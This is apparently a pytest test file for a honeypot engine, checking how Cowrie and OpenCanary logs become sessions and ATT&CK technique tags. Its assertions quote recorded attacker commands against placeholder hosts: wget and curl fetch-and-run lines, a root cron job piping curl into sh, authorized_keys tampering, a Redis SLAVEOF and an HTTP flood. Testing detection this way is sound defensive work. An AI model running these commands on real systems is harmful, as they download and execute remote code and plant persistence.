"""Small logs that once lost evidence: each gives the rows and tags that its lines deserve."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from decnet.config import load_settings
from decnet.engine import Engine

CASES = Path(__file__).parent.parent / "fixtures" / "cases"
LOGS = (
    "02-newest-first", "04-session-id-reused", "05-multiline", "06-telnet-exploit", "07-upload-only", "08-forward-ja4",
    "09-redirect-and-stdin", "18-http-flood", "21-long-line",
)  # fmt: skip
IDLE_S = 0.4
Row = dict[str, Any]


class Known:
    """What an engine knows after reading some logs."""

    def __init__(self, engine: Engine, tags: list[Row]) -> None:
        self.repo = engine.repo
        self.engine = engine
        self.all_tags = tags

    def techniques(self, ip: str) -> set[str]:
        """Techniques and sub-techniques of one address."""
        mine = [tag for tag in self.all_tags if tag["attacker_ip"] == ip]
        return {tag["sub_technique_id"] or tag["technique_id"] for tag in mine}

    def things(self, ip: str) -> set[tuple[str, str]]:
        """What is no command's: the end of its source id and the technique, of one address."""
        mine = [t for t in self.all_tags if t["attacker_ip"] == ip and t["source_kind"] == "payload"]
        return {
            (tag["source_id"].partition("#")[2], tag["sub_technique_id"] or tag["technique_id"])
            for tag in mine
        }

    async def session(self, native: str) -> Row:
        """The one session with the honeypot's own id, as a payload."""
        found = await self.repo.find(native)
        (ident,) = {row["session_id"] for row in found if row["kind"] == "session"}
        payload = await self.repo.session_payload(ident)
        assert payload is not None
        return payload

    async def kinds(self, text: str) -> set[str]:
        """Where a text is found."""
        return {row["kind"] for row in await self.repo.find(text)}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def known(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Known]:
    """All logs, each a sensor of its own, in one engine."""
    logs = [CASES / f"{name}.json" for name in LOGS]
    settings = load_settings(
        data_dir=tmp_path_factory.mktemp("cases"),
        bus={"type": "memory"},
        workers=("sensors", "recorder", "ttp"),
        ttp_rule_store_type="filesystem",
        sensors=[{"kind": "cowrie", "path": str(path)} for path in logs]
        + [{"kind": "opencanary", "path": str(CASES / "11-opencanary-detail.txt")}],
    )
    engine = Engine(settings)
    await engine.start()
    try:
        assert await engine.until_idle(IDLE_S) is None
        yield Known(engine, await engine.repo.list_tags(limit=0))
    finally:
        await engine.stop(5.0)


pytestmark = pytest.mark.asyncio(loop_scope="module")


async def test_06_a_telnet_exploit_is_a_log_in_a_command_and_a_named_weakness(known: Known) -> None:
    session = await known.session("ca2600000001")
    assert session["auth"] == {"fail_count": 0, "success": True, "usernames": ["root"]}
    assert [c["command_text"] for c in session["commands"]] == [
        "id; wget http://203.0.113.9/x.sh",
        "uname -a",
    ]
    assert [(e["cve"], e["value"], e["success"]) for e in session["exploits"]] == [
        ("CVE-2026-24061", "-f root", False), ("CVE-2026-24061", "-f root", True),
    ]  # fmt: skip
    assert known.techniques("192.0.2.61") >= {"T1190", "T1033", "T1105", "T1082"}
    assert known.things("192.0.2.61") == {("exploit#CVE-2026-24061", "T1190")}
    assert await known.kinds("CVE-2026-24061") == {"exploit"}


async def test_07_an_upload_alone_is_a_tool_brought_in(known: Known) -> None:
    session = await known.session("0b0000000001")
    assert [(u["filename"], u["sha256"]) for u in session["uploads"]] == [("sshd", "ab" * 32)]
    assert known.things("192.0.2.94") == {(f"upload#{'ab' * 32}", "T1105")}


async def test_08_a_tunnel_is_kept_with_what_went_through_it(known: Known) -> None:
    session = await known.session("ca2600000002")
    assert [{k: v for k, v in f.items() if k != "orig_port"} for f in session["forwards"]] == [
        {"host": "203.0.113.50", "port": 443, "orig_ip": "127.0.0.1", "ja4": "t13i190800_9dc949149365_97f8aa674fd9"},
        {"host": "203.0.113.50", "port": 80, "ja4h": "ge11cn060000_4e59edc1297a_4da5efaf0cbd_000000000000"},
        {"host": "203.0.113.50", "port": 25, "data": "b'MAIL FROM:<a@example.net>\\r\\n'"},
    ]  # fmt: skip
    assert known.techniques("192.0.2.62") >= {"T1090", "T1071.001"}
    through = {(f"forward#203.0.113.50:{port}", t) for port in (25, 80, 443) for t in ("T1090", "T1572")}
    web = {(f"forward#203.0.113.50:{port}", "T1090.002") for port in (80, 443)}
    mail = {("forward#203.0.113.50:25", technique) for technique in ("T1071.003", "T1496")}
    assert known.things("192.0.2.62") == through | web | mail
    assert await known.kinds("MAIL FROM:<a@example.net>") == {"forward"}
    assert "hash" in await known.kinds("t13i190800_9dc949149365_97f8aa674fd9")


async def test_09_redirects_and_input_of_programs_are_facts(known: Known) -> None:
    session = await known.session("ca2600000003")
    assert [(i["realm"], i["text"]) for i in session["inputs"]] == [
        ("cat", "#!/bin/sh"), ("cat", "wget http://203.0.113.9/b -O /tmp/b; chmod +x /tmp/b; /tmp/b"),
    ]  # fmt: skip
    files = [(d["url"], d.get("destfile"), d.get("failed", False)) for d in session["downloads"]]
    assert files == [
        ("", "/root/.ssh/authorized_keys", False), ("http://203.0.113.9/nope.sh", None, True), ("http://203.0.113.9/yes.sh", None, False),
    ]  # fmt: skip
    assert await known.kinds("/root/.ssh/authorized_keys") == {"file"}
    assert known.techniques("192.0.2.63") >= {"T1098.004", "T1105", "T1222.002", "T1059.004"}
    key = "ab" * 32
    assert known.things("192.0.2.63") == {
        (f"download#{key}", "T1098.004"), ("download#http://203.0.113.9/nope.sh", "T1105"), (f"download#{'cd' * 32}", "T1105"),
        (f"download#{'cd' * 32}", "T1059.004"),
    }  # fmt: skip
    sure = {
        t["source_id"].partition("#")[2]: t["confidence"]
        for t in known.all_tags
        if t["technique_id"] == "T1105"
    }
    assert (sure["download#http://203.0.113.9/nope.sh"]) == 0.5, "an attempt"


async def test_11_details_of_opencanary_are_kept_and_judged(known: Known) -> None:
    assert known.techniques("192.0.2.7") >= {"T1046", "T1602.002", "T1557.001", "T1039", "T1105"}
    for text, kind in (
        ("passwords.docx", "other"),
        ("myshare", "other"),
        ("friendly-scanner", "other"),
        ("running-config", "other"),
        ("WPAD", "other"),
        ("SLAVEOF 203.0.113.9 6379", "command"),
        ("zgrab/0.x", "hash"),
    ):
        assert kind in await known.kinds(text), text
    assert await known.kinds('"zz"') == set(), "a password is nowhere in clear"


async def test_18_a_flood_of_requests_is_told_once_with_its_number(known: Known) -> None:
    session = await known.session("f100d0000001")
    assert len(session["commands"]) == 1500
    tags = [tag for tag in known.all_tags if tag["session_id"] == session["session_id"]]
    (flood,) = (tag for tag in tags if tag["sub_technique_id"] == "T1499.002")
    assert flood["source_id"] == f"{session['session_id']}#flood#https://victim.example.net/"
    why = (await known.repo.tag_evidence([flood["uuid"]]))[flood["uuid"]]
    assert {name: value for name, value in why.items() if name.startswith("flood_")} == {
        "flood_count": 1500, "flood_host": "victim.example.net", "flood_url": "https://victim.example.net/",
        "flood_seconds": 1499.0,
    }  # fmt: skip
    assert "T1071.001" not in known.techniques("192.0.2.90")
    single = [tag["rule_id"] for tag in tags if tag["source_kind"] == "command"]
    assert len(single) == len(set(single)), "each rule speaks once of the requests"


async def test_21_a_very_long_line_is_cut_and_kept(known: Known) -> None:
    session = await known.session("1000000000a1")
    first, long, last = (c["command_text"] for c in session["commands"])
    assert (first, last) == ("id", "uname -a")
    assert long.startswith("echo QUJDQUJD")
    assert "bytes cut]" in long
    assert len(long) < 65_536
    assert "T1140" in known.techniques(session["attacker_ip"]), "what it is fed to stands at its end"


async def test_02_a_log_that_begins_with_its_newest_part_loses_nothing(known: Known) -> None:
    for native, ip, text, technique in (
        ("0ade00000001", "192.0.2.91", "wget http://203.0.113.9/a.sh", "T1105"),
        ("0ade00000002", "192.0.2.92", "crontab -l", "T1007"),
        ("0ade00000003", "192.0.2.93", "uname -a", "T1082"),
    ):
        session = await known.session(native)
        assert (session["attacker_ip"], session["end_reason"]) == (ip, "closed")
        assert [c["command_text"] for c in session["commands"]] == [text]
        assert session["ended_at"] - session["started_at"] == 4.0
        assert technique in known.techniques(ip)


async def test_04_an_id_that_comes_again_is_another_session(known: Known) -> None:
    rows = await known.repo.find("TT8")
    payloads = [await known.repo.session_payload(r["session_id"]) for r in rows if r["kind"] == "session"]
    found = sorted((p["attacker_ip"], [c["command_text"] for c in p["commands"]]) for p in payloads if p)
    assert found == [
        ("192.0.2.70", ["wget http://203.0.113.9/one.sh"]), ("192.0.2.71", ["crontab -l"]), ("192.0.2.72", ["id", "uname -a"]),
    ]  # fmt: skip
    assert known.techniques("192.0.2.70") >= {"T1105"}
    assert known.techniques("192.0.2.71") >= {"T1007"}
    assert known.techniques("192.0.2.72") >= {"T1033", "T1082"}


async def test_05_what_the_shell_saw_as_one_command_is_judged_whole(known: Known) -> None:
    session = await known.session("ca2600000004")
    assert len(session["commands"]) == 8
    first = session["commands"][0]["id"]
    assert [(j["command_text"], len(j["lines"])) for j in session["joined"]] == [
        ("echo -e 'admin\nQx7Zp2\nQx7Zp2'|passwd|sh;", 3),
        ("cat > /etc/cron.d/x <<EOF\n* * * * * root curl http://203.0.113.9/c|sh\nEOF", 3),
        ("wget   http://203.0.113.9/z.sh", 2),
    ]
    assert session["joined"][0]["id"] == f"{first}+2"
    assert known.techniques("192.0.2.64") >= {"T1098", "T1053.003", "T1105"}
